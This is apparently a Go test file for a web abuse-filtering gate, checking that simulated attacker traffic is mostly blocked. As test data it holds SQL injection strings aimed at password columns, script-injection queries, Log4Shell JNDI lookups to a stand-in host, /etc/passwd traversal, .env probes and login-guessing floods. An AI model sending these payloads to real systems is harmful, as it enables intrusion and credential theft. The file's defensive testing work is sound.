package abuse_test

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

func union(i int) string { return fmt.Sprintf("id=%d'+union+select+%d,password+from+users--", i, i) }

// Of so many requests of an attacker at most some pass, also with accounts of their own.
func TestAttacksPassSeldom(t *testing.T) {
	kinds := map[string]struct {
		most int
		make func(i int) sent
	}{
		"SQL": {20, func(i int) sent { return sent{path: "/page1", query: union(i), status: 500} }},
		"script": {20, func(i int) sent {
			return sent{path: "/page1", query: fmt.Sprintf("q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E", i)}
		}},
		"exploits": {5, func(i int) sent { return sent{path: "/", query: fmt.Sprintf("q=${jndi:ldap://x/%d}", i)} }},
		"secrets":  {20, func(i int) sent { return sent{path: "/.env." + letters(i), status: 404} }},
	}
	for name, kind := range kinds {
		for _, accounts := range []int{0, 1, 5, 20} {
			s := newScenario(t)
			agent := func(i int) string { return fmt.Sprint("Mozilla/5.0 own", i%max(accounts, 1)) }
			logIn := func() {
				for k := range accounts {
					s.login(evil, agent(k), fmt.Sprint("own", k), true)
				}
			}
			logIn() // so that the accounts are old
			s.day(func(ip string, i int) { s.do("day", ip, sent{path: fmt.Sprint("/page", i)}) })
			logIn()
			for i := range 500 {
				q := kind.make(i)
				q.agent = agent(i)
				s.do("attacker", evil, q)
				s.now = s.now.Add(time.Second)
			}
			if n := s.pass["attacker"]; n > kind.most {
				t.Errorf("%s with %d accounts: %d of 500 pass", name, accounts, n)
			}
		}
	}
}

// Nobody teaches the gate with an account of their own that people write SQL somewhere.
func TestOneAccountOpensNoParameter(t *testing.T) {
	s := newScenario(t)
	s.day(func(ip string, i int) { s.do("day", ip, sent{path: "/product", query: fmt.Sprint("id=", i)}) })
	s.login(evil, "", "mallory", true)
	for _, ip := range []string{evil, "193.5.5.5"} {
		for i := range 100 {
			s.do(ip, ip, sent{path: "/product", query: union(i)})
			s.now = s.now.Add(time.Second)
		}
		if s.pass[ip] > 10 {
			t.Errorf("%d of 100 pass from %s", s.pass[ip], ip)
		}
	}
}

// A picture in a page may ask for an exploit: that kind of request is refused then.
func TestExploitsAsPictures(t *testing.T) {
	s := newScenario(t)
	for i := range 100 {
		s.do("exploit", evil, sent{path: "/", query: fmt.Sprintf("q=${jndi:ldap://x/%d}", i), subresource: true})
		s.do("page", evil, sent{path: fmt.Sprint("/page", i%8)})
		s.now = s.now.Add(time.Second)
	}
	if s.pass["exploit"] > 5 || s.pass["page"] != 100 {
		t.Errorf("%d exploits and %d pages pass", s.pass["exploit"], s.pass["page"])
	}
}

// Padding hides nothing.
func TestPadding(t *testing.T) {
	const exploit = "${jndi:ldap://x/a}"
	for name, q := range map[string]sent{
		"query":   {path: "/", query: "p=" + strings.Repeat("a", 8200) + "&q=" + exploit},
		"agent":   {path: "/", agent: strings.Repeat("a", 2100) + exploit},
		"path":    {path: "/" + strings.Repeat("a", 4100) + "/" + exploit},
		"file":    {path: "/", query: "p=" + strings.Repeat("a", 8200) + "&file=../../../../etc/passwd"},
		"a value": {path: "/p", query: "id=" + strings.Repeat("1", 1100) + "'+union+select+1,password+from+users--"},
	} {
		s := newScenario(t)
		for i := range 50 {
			if name == "a value" {
				q.path = fmt.Sprint("/p", letters(i))
			}
			s.do("attacker", evil, q)
			s.now = s.now.Add(time.Second)
		}
		if s.pass["attacker"] > 10 {
			t.Errorf("%s: %d of 50 pass", name, s.pass["attacker"])
		}
	}
}

// Guesses are refused at each spelling of a form, with each method that sends one, and
// where the application has the path.
func TestGuessesAtForms(t *testing.T) {
	for _, path := range []string{"/login", "/logi%6e", "/login%20", "/login.", "/login%00", "/LOGIN/", "/wp-login.php/x", "/wp-login%2ephp", "/xmlrpc.php/x", "/xmlrpc%2ephp"} {
		s := newScenario(t)
		for range 300 {
			s.do("guesser", evil, sent{method: "POST", path: path})
			s.now = s.now.Add(time.Second)
		}
		if n := s.pass["guesser"]; n > 100 {
			t.Errorf("%s: %d of 300 pass", path, n)
		}
	}
	for _, method := range []string{"POST", "PUT"} {
		s := newScenario(t)
		s.day(func(ip string, _ int) { s.do("day", ip, sent{method: method, path: "/oauth/token"}) })
		for range 1000 {
			s.do("guesser", evil, sent{method: method, path: "/oauth/token", status: 401})
			s.now = s.now.Add(500 * time.Millisecond)
		}
		if n := s.pass["guesser"]; n > 100 {
			t.Errorf("%s: %d of 1000 pass", method, n)
		}
	}
}

// To log in again and again with accounts of one's own excuses few guesses.
func TestOwnLoginsExcuseFewGuesses(t *testing.T) {
	for _, accounts := range []int{1, 5, 9, 20} {
		s := newScenario(t)
		s.day(nil)
		for i := range 2500 {
			success, account := i%5 != 0, fmt.Sprint("victim", i)
			q, who := sent{method: "POST", path: "/login", status: 401}, "guess"
			if success {
				account, who, q.status = fmt.Sprint("own", i%accounts), "own", 302
			}
			if s.do(who, evil, q) {
				s.login(evil, "", account, success)
			}
			s.now = s.now.Add(time.Second)
		}
		if n := s.pass["guess"]; n > 100 {
			t.Errorf("%d accounts: %d of 500 guesses pass", accounts, n)
		}
	}
}
